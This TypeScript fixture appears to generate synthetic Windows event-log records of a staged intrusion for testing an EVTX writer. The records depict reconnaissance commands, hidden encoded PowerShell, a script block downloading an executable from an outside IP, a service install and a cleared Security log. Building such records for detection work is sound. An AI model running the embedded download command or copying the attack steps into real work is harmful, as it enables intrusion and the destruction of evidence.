/**
 * A small, realistic incident written by our own code: a user logs on over the network, a
 * shell spawns PowerShell with an encoded command, it reaches out, drops a file, installs a
 * service, and the Security log is cleared. Sysmon, Security, System, PowerShell and
 * Application channels, both named and classic (Qualifiers, EventSourceName) providers, and
 * one UserData event. Names and values follow what Windows writes for these event IDs.
 */
import type { WriterEvent } from '../../sinks/evtx-writer/types.js';

const HOST = 'WS-FIN-07.corp.example.com';
const SECURITY = { name: 'Microsoft-Windows-Security-Auditing', guid: '{54849625-5478-4994-A5BA-3E3B0328C30D}' };
const SYSMON = { name: 'Microsoft-Windows-Sysmon', guid: '{5770385F-C22A-43E0-BF4C-06F5698FFBD9}' };
const SYSMON_CHANNEL = 'Microsoft-Windows-Sysmon/Operational';
const POWERSHELL = { name: 'Microsoft-Windows-PowerShell', guid: '{A0C1853B-5C40-4B15-8766-3CF1C58F985A}' };
const ENCODED = 'JABjAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AVwBlAGIAQwBsAGkAZQBuAHQA';
const PS_PATH = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';

/** Security events carry a hex64 for process ids and logon ids (`0xf84`), as Windows writes them. */
function hex(value: number): { readonly type: 'hex64'; readonly value: number } {
  return { type: 'hex64', value };
}

export const EXAMPLE_EVENTS: readonly WriterEvent[] = [
  {
    provider: SECURITY, eventId: 4624, version: 2, level: 0, task: 12544, opcode: 0, keywords: '0x8020000000000000',
    timeCreated: '2024-05-14T09:12:03.1234567Z', recordId: 1001, execution: { processId: 684, threadId: 1320 },
    channel: 'Security', computer: HOST,
    eventData: [
      ['SubjectUserSid', { type: 'sid', value: 'S-1-0-0' }], ['SubjectUserName', '-'], ['SubjectDomainName', '-'],
      ['SubjectLogonId', hex(0)], ['TargetUserSid', { type: 'sid', value: 'S-1-5-21-1004336348-1177238915-682003330-1108' }],
      ['TargetUserName', 'alice'], ['TargetDomainName', 'CORP'], ['TargetLogonId', hex(0x5a3c1f)], ['LogonType', 3],
      ['LogonProcessName', 'NtLmSsp '], ['AuthenticationPackageName', 'NTLM'], ['WorkstationName', 'LAPTOP-23'],
      ['LogonGuid', { type: 'guid', value: '{00000000-0000-0000-0000-000000000000}' }], ['TransmittedServices', '-'],
      ['LmPackageName', 'NTLM V2'], ['KeyLength', 128], ['ProcessId', hex(0)], ['ProcessName', '-'],
      ['IpAddress', '10.20.0.23'], ['IpPort', '51234'], ['ImpersonationLevel', '%%1833'],
    ],
  },
  {
    provider: SECURITY, eventId: 4688, version: 2, level: 0, task: 13312, opcode: 0, keywords: '0x8020000000000000',
    timeCreated: '2024-05-14T09:12:41.5550000Z', recordId: 1002, execution: { processId: 4, threadId: 276 },
    channel: 'Security', computer: HOST,
    eventData: [
      ['SubjectUserSid', { type: 'sid', value: 'S-1-5-21-1004336348-1177238915-682003330-1108' }],
      ['SubjectUserName', 'alice'], ['SubjectDomainName', 'CORP'], ['SubjectLogonId', hex(0x5a3c1f)],
      ['NewProcessId', hex(0xf84)], ['NewProcessName', 'C:\\Windows\\System32\\cmd.exe'], ['TokenElevationType', '%%1936'],
      ['ProcessId', hex(0xb2c)], ['CommandLine', 'cmd.exe /c "whoami /all & net group \\"domain admins\\" /domain"'],
      ['TargetUserSid', { type: 'sid', value: 'S-1-0-0' }], ['TargetUserName', '-'], ['TargetDomainName', '-'],
      ['TargetLogonId', hex(0)], ['ParentProcessName', 'C:\\Windows\\explorer.exe'],
      ['MandatoryLabel', { type: 'sid', value: 'S-1-16-8192' }],
    ],
  },
  {
    provider: SYSMON, eventId: 1, version: 5, level: 4, task: 1, opcode: 0, keywords: '0x8000000000000000',
    timeCreated: '2024-05-14T09:12:44.0120000Z', recordId: 5101, execution: { processId: 2912, threadId: 3424 },
    channel: SYSMON_CHANNEL, computer: HOST, userId: 'S-1-5-18',
    eventData: [
      ['RuleName', '-'], ['UtcTime', '2024-05-14 09:12:44.010'], ['ProcessGuid', { type: 'guid', value: '{96128EA2-F212-5F7E-E400-000000007F01}' }],
      ['ProcessId', 4460], ['Image', PS_PATH], ['FileVersion', '10.0.19041.546 (WinBuild.160101.0800)'],
      ['Description', 'Windows PowerShell'], ['Product', 'Microsoft® Windows® Operating System'], ['Company', 'Microsoft Corporation'],
      ['OriginalFileName', 'PowerShell.EXE'], ['CommandLine', `powershell.exe -nop -w hidden -encodedcommand ${ENCODED}`],
      ['CurrentDirectory', 'C:\\Users\\alice\\'], ['User', 'CORP\\alice'], ['LogonGuid', { type: 'guid', value: '{96128EA2-F1A0-5F7E-1F3C-5A0000000000}' }],
      ['LogonId', hex(0x5a3c1f)], ['TerminalSessionId', 1], ['IntegrityLevel', 'High'],
      ['Hashes', 'MD5=7353F60B1739074EB17C5F4DDDEFE239,SHA256=DE96A6E69944335375DC1AC238336066889D9FFC7D73628EF4FE1B1B160AB32C,IMPHASH=741776AACCFC5B71FF59832DCDCACE0F'],
      ['ParentProcessGuid', { type: 'guid', value: '{96128EA2-F211-5F7E-E300-000000007F01}' }], ['ParentProcessId', 3972],
      ['ParentImage', 'C:\\Windows\\System32\\cmd.exe'], ['ParentCommandLine', 'cmd.exe /c "whoami /all & net group \\"domain admins\\" /domain"'],
      ['ParentUser', 'CORP\\alice'],
    ],
  },
  {
    provider: SECURITY, eventId: 4688, version: 2, level: 0, task: 13312, opcode: 0, keywords: '0x8020000000000000',
    timeCreated: '2024-05-14T09:12:45.2010000Z', recordId: 1003, execution: { processId: 4, threadId: 276 },
    channel: 'Security', computer: HOST,
    eventData: [
      ['SubjectUserSid', { type: 'sid', value: 'S-1-5-21-1004336348-1177238915-682003330-1108' }],
      ['SubjectUserName', 'alice'], ['SubjectDomainName', 'CORP'], ['SubjectLogonId', hex(0x5a3c1f)],
      ['NewProcessId', hex(0x1a2c)], ['NewProcessName', 'C:\\Windows\\System32\\whoami.exe'], ['TokenElevationType', '%%1937'],
      ['ProcessId', hex(0x116c)], ['CommandLine', 'whoami /priv'],
      ['TargetUserSid', { type: 'sid', value: 'S-1-0-0' }], ['TargetUserName', '-'], ['TargetDomainName', '-'],
      ['TargetLogonId', hex(0)], ['ParentProcessName', PS_PATH],
      ['MandatoryLabel', { type: 'sid', value: 'S-1-16-12288' }],
    ],
  },
  {
    provider: POWERSHELL, eventId: 4104, version: 1, level: 5, task: 2, opcode: 15, keywords: '0x0',
    timeCreated: '2024-05-14T09:12:45.8800000Z', recordId: 301, execution: { processId: 4460, threadId: 4512 },
    channel: 'Microsoft-Windows-PowerShell/Operational', computer: HOST, userId: 'S-1-5-21-1004336348-1177238915-682003330-1108',
    correlation: { activityId: '{A5B1C2D3-0000-0000-0000-000000000001}' },
    eventData: [
      ['MessageNumber', 1], ['MessageTotal', 1],
      ['ScriptBlockText', "$c=New-Object Net.WebClient; $c.DownloadFile('https://203.0.113.50/u.exe', \"$env:TEMP\\u.exe\") <# staged #>"],
      ['ScriptBlockId', 'b7d5a1c0-3f2e-4c1a-9d8e-0a1b2c3d4e5f'], ['Path', ''],
    ],
  },
  {
    provider: SYSMON, eventId: 3, version: 5, level: 4, task: 3, opcode: 0, keywords: '0x8000000000000000',
    timeCreated: '2024-05-14T09:12:46.3000000Z', recordId: 5102, execution: { processId: 2912, threadId: 3500 },
    channel: SYSMON_CHANNEL, computer: HOST, userId: 'S-1-5-18',
    eventData: [
      ['RuleName', 'technique_id=T1105,technique_name=Ingress Tool Transfer'], ['UtcTime', '2024-05-14 09:12:46.120'],
      ['ProcessGuid', { type: 'guid', value: '{96128EA2-F212-5F7E-E400-000000007F01}' }], ['ProcessId', 4460], ['Image', PS_PATH],
      ['User', 'CORP\\alice'], ['Protocol', 'tcp'], ['Initiated', true], ['SourceIsIpv6', false], ['SourceIp', '10.20.5.17'],
      ['SourceHostname', HOST], ['SourcePort', 50122], ['SourcePortName', '-'], ['DestinationIsIpv6', false],
      ['DestinationIp', '203.0.113.50'], ['DestinationHostname', '-'], ['DestinationPort', 443], ['DestinationPortName', 'https'],
    ],
  },
  {
    provider: SYSMON, eventId: 11, version: 2, level: 4, task: 11, opcode: 0, keywords: '0x8000000000000000',
    timeCreated: '2024-05-14T09:12:47.0010000Z', recordId: 5103, execution: { processId: 2912, threadId: 3500 },
    channel: SYSMON_CHANNEL, computer: HOST, userId: 'S-1-5-18',
    eventData: [
      ['RuleName', '-'], ['UtcTime', '2024-05-14 09:12:46.998'], ['ProcessGuid', { type: 'guid', value: '{96128EA2-F212-5F7E-E400-000000007F01}' }],
      ['ProcessId', 4460], ['Image', PS_PATH], ['TargetFilename', 'C:\\Users\\alice\\AppData\\Local\\Temp\\u.exe'],
      ['CreationUtcTime', '2024-05-14 09:12:46.998'], ['User', 'CORP\\alice'],
    ],
  },
  {
    provider: { name: 'Service Control Manager', guid: '{555908D1-A6D7-4695-8E1E-26931D2012F4}', eventSourceName: 'Service Control Manager' },
    eventId: 7045, qualifiers: 16384, version: 0, level: 4, task: 0, opcode: 0, keywords: '0x8080000000000000',
    timeCreated: '2024-05-14T09:13:02.4400000Z', recordId: 2201, execution: { processId: 812, threadId: 5044 },
    channel: 'System', computer: HOST, userId: 'S-1-5-21-1004336348-1177238915-682003330-1108',
    eventData: [
      ['ServiceName', 'UpdaterSvc'], ['ImagePath', '%TEMP%\\u.exe -svc'], ['ServiceType', 'user mode service'],
      ['StartType', 'auto start'], ['AccountName', 'LocalSystem'],
    ],
  },
  {
    provider: SECURITY, eventId: 4625, version: 0, level: 0, task: 12544, opcode: 0, keywords: '0x8010000000000000',
    timeCreated: '2024-05-14T09:14:10.7000000Z', recordId: 1004, execution: { processId: 684, threadId: 1404 },
    channel: 'Security', computer: HOST,
    eventData: [
      ['SubjectUserSid', { type: 'sid', value: 'S-1-0-0' }], ['SubjectUserName', '-'], ['SubjectDomainName', '-'], ['SubjectLogonId', hex(0)],
      ['TargetUserSid', { type: 'sid', value: 'S-1-0-0' }], ['TargetUserName', 'administrator'], ['TargetDomainName', 'CORP'],
      ['Status', hex(0xc000006d)], ['FailureReason', '%%2313'], ['SubStatus', hex(0xc000006a)], ['LogonType', 3],
      ['LogonProcessName', 'NtLmSsp '], ['AuthenticationPackageName', 'NTLM'], ['WorkstationName', 'WS-FIN-07'],
      ['TransmittedServices', '-'], ['LmPackageName', '-'], ['KeyLength', 0], ['ProcessId', hex(0)], ['ProcessName', '-'],
      ['IpAddress', '10.20.5.17'], ['IpPort', '50131'],
    ],
  },
  {
    provider: { name: 'Microsoft-Windows-IIS-W3SVC-WP', guid: '{670080D9-742A-4187-8D16-41143D1290BD}', eventSourceName: 'W3SVC-WP' },
    eventId: 2282, qualifiers: 49152, version: 0, level: 2, task: 0, opcode: 0, keywords: '0x80000000000000',
    timeCreated: '2024-05-14T09:15:30.0000000Z', recordId: 8812, execution: { processId: 0, threadId: 0 },
    channel: 'Application', computer: HOST,
    eventData: [['ModuleDll', 'c:\\temp\\msf.dll'], ['ProcessorArchitecture', 'AMD64']],
  },
  {
    provider: { name: 'Microsoft-Windows-Eventlog', guid: '{FC65DDD8-D6EF-4962-83D5-6E5CFE9CE148}' },
    eventId: 1102, version: 0, level: 4, task: 104, opcode: 0, keywords: '0x4020000000000000',
    timeCreated: '2024-05-14T09:16:00.5000000Z', recordId: 1005, execution: { processId: 1212, threadId: 3112 },
    channel: 'Security', computer: HOST,
    userData: {
      element: 'LogFileCleared',
      xmlns: 'http://manifests.microsoft.com/win/2004/08/windows/eventlog',
      fields: [
        ['SubjectUserSid', { type: 'sid', value: 'S-1-5-21-1004336348-1177238915-682003330-1108' }],
        ['SubjectUserName', 'alice'], ['SubjectDomainName', 'CORP'], ['SubjectLogonId', hex(0x5a3c1f)],
      ],
    },
  },
];
